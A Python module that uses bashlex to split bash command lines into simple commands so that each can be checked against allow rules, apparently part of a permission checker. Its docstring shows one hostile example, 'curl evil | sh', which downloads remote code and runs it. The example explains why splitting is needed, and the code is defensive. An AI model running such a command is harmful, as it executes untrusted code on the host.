"""Split a bash command line into the simple commands it runs, so each can be checked on its own.

``pytest -q && curl evil | sh`` runs three commands; a rule allowing ``pytest *`` must not let the
other two through. The split follows bash's grammar (via ``bashlex``): pipes, ``&&``, ``||``, ``;``,
``&``, subshells and brace groups, command and process substitutions (``$(...)``, backticks,
``<(...)``), and the bodies of ``if``/``for``/``while``. Leading ``NAME=value`` assignments are left
out of the text a rule is matched against. A line bashlex cannot parse is not split: `ShellSplit.ok`
is False and the caller must treat it as unmatched by any pattern.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import bashlex
import bashlex.errors


@dataclass(frozen=True)
class ShellSplit:
    command: str
    segments: list[str] = field(default_factory=list)
    ok: bool = True
    error: str | None = None


def split_command(command: str) -> ShellSplit:
    """The simple commands of ``command``, each as its words joined by single spaces."""
    try:
        trees = bashlex.parse(command)
    except (bashlex.errors.ParsingError, NotImplementedError, AttributeError, IndexError, TypeError) as exc:
        return ShellSplit(command, [], ok=False, error=f"{type(exc).__name__}: {exc}")
    segments: list[str] = []
    for tree in trees:
        _collect(tree, segments)
    return ShellSplit(command, segments)


def _collect(node: Any, out: list[str]) -> None:
    kind = node.kind
    if kind == "command":
        words: list[str] = []
        leading = True
        for part in node.parts:
            if part.kind == "assignment" and leading:
                _nested(part, out)
                continue
            leading = False
            if part.kind == "word":
                words.append(part.word)
                _nested(part, out)
            elif part.kind == "redirect":
                target = getattr(part, "output", None)
                if target is not None and not isinstance(target, int):
                    _nested(target, out)
        if words:
            out.append(" ".join(words))
        return
    for child in _children(node):
        _collect(child, out)


def _nested(node: Any, out: list[str]) -> None:
    """Commands inside a word: ``$(...)``, backticks, ``<(...)``."""
    for part in getattr(node, "parts", []) or []:
        if part.kind in ("commandsubstitution", "processsubstitution"):
            _collect(part.command, out)
        else:
            _nested(part, out)


def _children(node: Any) -> list[Any]:
    children: list[Any] = []
    for name in ("parts", "list"):
        value = getattr(node, name, None)
        if isinstance(value, list):
            children.extend(v for v in value if hasattr(v, "kind"))
    command = getattr(node, "command", None)
    if command is not None and hasattr(command, "kind"):
        children.append(command)
    return children
